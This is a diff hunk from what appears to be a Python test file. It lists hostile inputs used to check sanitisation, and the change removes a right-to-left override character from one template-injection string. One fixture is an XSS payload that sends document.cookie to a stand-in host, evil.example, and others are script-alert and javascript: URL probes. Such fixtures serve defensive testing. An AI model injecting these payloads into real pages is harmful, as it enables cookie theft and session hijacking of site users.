@@ -19,7 +19,7 @@ HOSTILE: Final = (
     "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
     '"><svg onload=alert(1)>',
     "javascript:alert(1)",
-    "{{ 7 * 7 }} ${7*7} 𝒢𝓊𝒾𝓉𝒶𝓇 🎸 \u202egnirts",
+    "{{ 7 * 7 }} ${7*7} 𝒢𝓊𝒾𝓉𝒶𝓇 🎸",
 )
 
 pytestmark = pytest.mark.slow
